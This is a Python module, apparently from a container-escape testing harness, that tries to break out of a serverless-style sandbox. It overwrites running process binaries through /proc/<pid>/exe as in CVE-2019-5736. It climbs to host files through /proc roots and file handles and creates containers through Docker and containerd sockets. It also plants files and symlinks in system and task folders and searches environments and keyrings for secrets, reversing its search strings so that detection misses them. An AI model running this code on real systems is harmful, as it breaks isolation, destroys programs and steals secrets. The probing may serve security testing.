"""Attempts on files: the kernel's, the image's, the host's."""

import http.client
import json
import os
import socket

from trying import KEPT, attempt, call, encoded, mount_points, pids, read


def read_each(paths):
    """The beginning of every file that can be read, below folders as well."""
    found = {}
    for top in paths:
        for path in [top] if not os.path.isdir(top) else below(top):
            value = attempt(read, path)
            if isinstance(value, bytes) and value:
                found[path] = encoded(value)
    return found


def below(top, limit=200):
    found = []
    for folder, _, names in os.walk(top):
        found += [os.path.join(folder, name) for name in names]
        if len(found) > limit:
            break
    return found[:limit]


def write_each(values):
    return {path: attempt(write, path, value) for path, value in values.items()}


def write(path, value):
    descriptor = os.open(path, os.O_WRONLY)
    try:
        return os.write(descriptor, value.encode())
    finally:
        os.close(descriptor)


def overwrite_programs():
    """The programs of all processes, through the links that lead to them whatever is mounted."""
    said = {}
    for pid in pids():
        path = f"/proc/{pid}/exe"
        said[f"{path} written"] = attempt(write, path, "#!/bin/false\n")
        said[f"{path} cut"] = attempt(os.truncate, path, 0)
        said[f"{path} replaced"] = attempt(replace, path)
        # Opened while it runs and written once it has ended, as CVE-2019-5736 did.
        held = attempt(os.open, path, os.O_PATH)
        if isinstance(held, int):
            said[f"{path} reopened"] = attempt(write, f"/proc/self/fd/{held}", "#!/bin/false\n")
    return said


def replace(link):
    target = os.readlink(link)
    os.unlink(target)
    write(target, "#!/bin/false\n")


def climb(name, absolute):
    """Looks for a file from every working directory, root, descriptor and mount point that there is."""
    starts = ["/", *mount_points()]
    for pid in pids():
        starts += [f"/proc/{pid}/cwd", f"/proc/{pid}/root"]
        starts += [f"/proc/{pid}/fd/{fd}" for fd in attempt(os.listdir, f"/proc/{pid}/fd")]
    for start in starts:
        for steps in range(8):
            folder = start + "/.." * steps
            for path in (f"{folder}/{name}", folder + absolute):
                value = attempt(read, path)
                if isinstance(value, bytes) and value:
                    return {"path": path, "bytes": encoded(value)}
    return None


def open_by_handle(kind, handle):
    """A file of the host by its number, from any folder that lies on the same filesystem."""
    import base64
    import ctypes
    import struct

    number = base64.b64decode(handle)
    wanted = struct.pack("Ii", len(number), kind) + number
    said = []
    for point in ["/var/task", "/run/lambda", "/etc/hosts", *mount_points()]:
        mount = attempt(os.open, point, os.O_RDONLY)
        if not isinstance(mount, int):
            continue
        opened = attempt(call, "open_by_handle_at", mount, ctypes.create_string_buffer(wanted), os.O_RDONLY)
        if isinstance(opened, int):
            return {"bytes": encoded(os.read(opened, 4096))}
        said.append(opened)
    return {"said": said}


def call_engines(image, name):
    """Asks every socket that looks like an engine's for a container."""
    said = {}
    for path in {*sockets(), "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"}:
        said[path] = attempt(create_container, path, image, name)
    return said


def sockets():
    """Every socket in the filesystem, and every name that the kernel lists."""
    found = [line.split()[-1] for line in open("/proc/net/unix") if line.split()[-1].startswith(("/", "@"))]
    for top in ("/run", "/var", "/tmp", "/dev"):
        for folder, _, files in os.walk(top):
            found += [os.path.join(folder, file) for file in files if is_socket(os.path.join(folder, file))]
    return found


def is_socket(path):
    import stat

    mode = attempt(os.lstat, path)
    return not isinstance(mode, str) and stat.S_ISSOCK(mode.st_mode)


def create_container(path, image, name):
    connection = http.client.HTTPConnection("engine", timeout=5)
    connection.sock = connect(path)
    body = json.dumps({"Image": image, "Cmd": ["true"]})
    connection.request("POST", f"/containers/create?name={name}", body, {"content-type": "application/json"})
    return connection.getresponse().status


def connect(path):
    one = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    one.settimeout(5)
    one.connect("\0" + path[1:] if path.startswith("@") else path)
    KEPT.append(one)
    return one


WRITABLE_TOPS = ("/", "/etc", "/usr/bin", "/sbin", "/dev", "/var", "/var/task", "/var/runtime", "/var/cache/lambda", "/run/lambda")


def change_everything():
    """Every way to change a file or folder, on all that belongs to the image, the code and the mounts."""
    files = [*mount_points(), *below("/var/task"), *below("/var/cache/lambda"), *below("/var/runtime"), "/etc/passwd"]
    said = {}
    for path in files:
        if path.startswith(("/proc", "/sys", "/tmp", "/dev/")):
            continue
        for way in (write_into, cut, lambda p: os.chmod(p, 0o777), touch, lambda p: os.chown(p, os.getuid(), -1), mark):
            said[f"{getattr(way, '__name__', 'way')} {path}"] = attempt(way, path)
    for top in WRITABLE_TOPS:
        said[f"new {top}"] = attempt(make, f"{top}/planted")
        said[f"link {top}"] = attempt(os.symlink, "/tmp", f"{top}/planted-link")
    for path in below("/var/task"):
        # A name of it that is not mounted read-only would make it writable.
        said[f"hard link {path}"] = attempt(os.link, path, "/tmp/linked")
        said[f"moved {path}"] = attempt(os.rename, path, "/tmp/moved")
        said[f"replaced {path}"] = attempt(replace_code, path)
    return said


def write_into(path):
    return write(path, "# planted\n")


def cut(path):
    descriptor = os.open(path, os.O_RDWR)
    os.ftruncate(descriptor, 1)


def touch(path):
    os.utime(path, (1, 1))


def mark(path):
    os.setxattr(path, "user.planted", b"1")


def make(path):
    with open(path, "w") as file:
        file.write("planted")


def replace_code(path):
    os.unlink(path)
    make(path)


def plant_links(target):
    """Links in every folder that the host looks into later, all of which lead to one of its own."""
    said = {}
    for top in ("/var/task", "/var/cache/lambda", "/run/lambda", "/tmp"):
        for name in ("planted", "index.mjs", "agent.sock", "task", "cache"):
            said[f"{top}/{name}"] = attempt(plant, f"{top}/{name}", target)
    return said


def plant(path, target):
    attempt(os.unlink, path)
    os.symlink(target, path)


def search(reversed_needles):
    """Which of these texts can be read anywhere: in processes, mounts, configuration. They come reversed, or it would find the event."""
    needles = {needle: needle[::-1].encode() for needle in reversed_needles}
    places = []
    for pid in pids():
        places += [f"/proc/{pid}/{name}" for name in ("environ", "cmdline", "mountinfo", "mounts", "status", "cgroup", "maps")]
    for top in ("/etc", "/run", "/var/task", "/var/cache", "/var/run", "/var/log", "/tmp", "/dev/shm", "/dev/mqueue", "/root", "/home"):
        places += below(top, 2000)
    places += ["/proc/net/unix", "/proc/cmdline", "/proc/keys", "/proc/1/mountstats"]
    found = {}
    for place in places:
        value = attempt(read, place, 1 << 20)
        for needle, wanted in needles.items():
            if isinstance(value, bytes) and wanted in value:
                found.setdefault(needle[::-1], place)
    return found


def lock(path, exclusive):
    """Locks a file that is shared with other sandboxes under it."""
    import fcntl

    held = os.open(path, os.O_RDONLY)
    KEPT.append(held)
    return attempt(fcntl.flock, held, (fcntl.LOCK_EX if exclusive else fcntl.LOCK_SH) | fcntl.LOCK_NB)
